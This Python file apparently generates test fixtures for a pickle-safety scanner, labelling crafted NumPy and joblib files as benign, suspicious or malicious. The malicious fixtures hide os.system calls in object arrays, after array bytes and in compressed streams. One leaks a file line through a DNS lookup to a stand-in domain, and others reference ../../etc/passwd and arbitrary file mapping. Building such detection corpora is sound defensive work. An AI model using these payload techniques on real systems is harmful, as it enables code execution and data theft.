"""NumPy and joblib files: object arrays, arrays between opcodes, compressed streams."""

import bz2
import io
import lzma
import struct
import zlib

import lz4.frame
import numpy

from archives import zip_files
from containers import gz
from pickle_asm import SHELL, Build, G, New, asm, call, dump, op, push, system


def npy(header, body, version=1):
    text = header.encode("latin-1")
    size = 2 if version == 1 else 4
    start = 6 + 2 + size
    text += b" " * (-(start + len(text) + 1) % 64) + b"\n"
    return b"\x93NUMPY" + bytes([version, 0]) + len(text).to_bytes(size, "little") + text + body


def real_npy(array, allow_pickle=False):
    out = io.BytesIO()
    numpy.save(out, array, allow_pickle=allow_pickle)
    return out.getvalue()


OBJECT = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
FLOAT = "{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }"
FLOATS = struct.pack("<4f", 1, 2, 3, 4)


def build(corpus):
    numpy_files(corpus)
    joblib_files(corpus)


def numpy_files(corpus):
    refs = ["CVE-2019-6446"]
    corpus.benign("floats.npy", "npy", "an array of numbers", npy(FLOAT, FLOATS))
    corpus.benign("floats-version-2.npy", "npy", "an array of numbers with a long header", npy(FLOAT, FLOATS, 2))
    corpus.benign("strings.npy", "npy", "an array of fixed-width text", real_npy(numpy.array(["eval", "os.system"])))
    corpus.benign("structured.npy", "npy", "a structured array", real_npy(numpy.array([(1, 2.0)], dtype=[("exec", "i4"), ("eval", "f8")])))
    corpus.benign("objects.npy", "npy", "an array of objects that are plain tuples", real_npy(numpy.array([None, (1, 2)], dtype=object), True))
    arrays = {"weight.npy": real_npy(numpy.ones((2, 3), numpy.float32)), "bias.npy": real_npy(numpy.zeros(3))}
    corpus.benign("arrays.npz", "npz", "two arrays of numbers", zip_files(arrays))
    corpus.benign("arrays-compressed.npz", "npz", "two arrays of numbers, compressed", zip_files(arrays, deflate=True))
    corpus.malicious("object-system.npy", "npy", "an object array calls os.system", npy(OBJECT, system()), refs)
    corpus.malicious("object-system-version-3.npy", "npy", "an object array in format version 3", npy(OBJECT, system(), 3), refs)
    corpus.malicious("object-system.npz", "npz", "an object array in an archive", zip_files(dict(arrays, **{"meta.npy": npy(OBJECT, system())})), refs)
    corpus.malicious("object-system-compressed.npz", "npz", "an object array in a compressed archive", zip_files(dict(arrays, **{"meta.npy": npy(OBJECT, system())}), deflate=True), refs)
    corpus.malicious("pickle-in.npz", "npz", "a member that is no array but a pickle, which numpy loads", zip_files(dict(arrays, **{"x": system()})), refs)
    line = call("linecache", "getline", "/dev/null", 1)
    dns = call("ssl", "get_server_certificate", (call("builtins", "str.format", "{}.caiso.invalid", line), 443))
    corpus.malicious("object-dns.npy", "npy", "an object array sends a line of a file as a host name", npy(OBJECT, dump(dns)), ["CVE-2025-46417", "GHSA-93mv-x874-956g"])
    corpus.malicious("floats-then-pickle.npy", "npy", "a payload after the numbers", npy(FLOAT, FLOATS + system()))
    field = "{'descr': [('a', '<f4'), ('b', '|O')], 'fortran_order': False, 'shape': (1,), }"
    corpus.malicious("object-field.npy", "npy", "an object field of a structured array", npy(field, system()), refs)
    corpus.suspicious("shape-too-large.npy", "npy", "a shape larger than the file", npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1000000000, 1000), }", FLOATS))
    corpus.suspicious("header-code.npy", "npy", "the header is an expression, not a literal", npy("__import__('os').system('echo caiso') or {'descr': '<f4', 'fortran_order': False, 'shape': (4,)}", FLOATS))
    corpus.suspicious("header-cut.npy", "npy", "the header is cut", npy(FLOAT, b"")[:40])
    corpus.suspicious("version-9.npy", "npy", "a format version that does not exist", b"\x93NUMPY\x09\x00" + npy(FLOAT, FLOATS)[8:])


def joblib_stream(before, after, body=None, dtype=None, shape=(4,)):
    """A joblib pickle with one array whose bytes stand between the opcodes."""
    kind = dtype or Build(call("numpy", "dtype", "f4", False, True), (3, "<", None, None, None, -1, -1, 0))
    aligned = body is None
    state = {
        "subclass": G("numpy", "ndarray"), "shape": shape, "order": "C", "dtype": kind,
        "allow_mmap": aligned, "numpy_array_alignment_bytes": 16 if aligned else None,
    }
    wrapper = Build(New(G("joblib.numpy_pickle", "NumpyArrayWrapper")), state)
    head = op("PROTO", 4) + before + push(wrapper)
    if aligned:
        pad = 16 - (len(head) + 1) % 16
        body = bytes([pad]) + b"\xff" * pad + FLOATS
    return head + body + after + b"."


def joblib_files(corpus):
    plain = joblib_stream(b"}\x94" + push("coef_"), b"s")
    corpus.benign("array.joblib", "joblib", "one array between opcodes", plain)
    after = push("hook") + push(call("os", "system", SHELL)) + b"s"
    evil = joblib_stream(b"}\x94" + push("coef_"), b"s" + after)
    corpus.malicious("after-array.joblib", "joblib", "os.system after the bytes of an array", evil)
    stops = joblib_stream(b"}\x94" + push("coef_"), b"s" + after, body=b"\x01\xff" + b"....\x80\x04N.........."[:16])
    corpus.malicious("after-array-with-stops.joblib", "joblib", "the array's bytes look like ends of pickles", stops)
    first = asm("EMPTY_DICT", push("hook"), push(call("os", "system", SHELL)), "SETITEM", push("coef_"))
    corpus.malicious("before-array.joblib", "joblib", "os.system before the bytes of an array", joblib_stream(first, b"s"))
    objects = Build(call("numpy", "dtype", "O8", False, True), (3, "|", None, None, None, -1, -1, 63))
    nested = joblib_stream(b"}\x94" + push("classes_"), b"s", body=system(), dtype=objects, shape=(1,))
    corpus.malicious("object-array.joblib", "joblib", "an array of objects is a nested pickle", nested, ["CVE-2024-34997"])
    old = Build(New(G("joblib.numpy_pickle_compat", "NDArrayWrapper")), {"filename": "../../etc/passwd", "subclass": G("numpy", "ndarray"), "allow_mmap": False})
    corpus.malicious("old-wrapper-path.joblib", "joblib", "the wrapper of old versions names a file outside", dump(old))
    packers = {
        "zlib": zlib.compress,
        "gz": gz,
        "bz2": bz2.compress,
        "xz": lzma.compress,
        "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
        "lz4": lz4.frame.compress,
    }
    for ext, pack in packers.items():
        corpus.malicious(f"compressed-{ext}.joblib", "joblib", f"os.system after an array, compressed as {ext}", pack(evil))
        corpus.benign(f"compressed-{ext}.joblib", "joblib", f"one array, compressed as {ext}", pack(plain))
    corpus.malicious("plain.joblib", "joblib", "a pickle without arrays named as joblib", system())
    corpus.malicious("memmap-reducer.joblib", "joblib", "a helper of joblib maps any file", dump(call("joblib._memmapping_reducer", "_strided_from_memmap", "/dev/null", "u1", "w+", 0, "C", (1,), None, 1, False)))
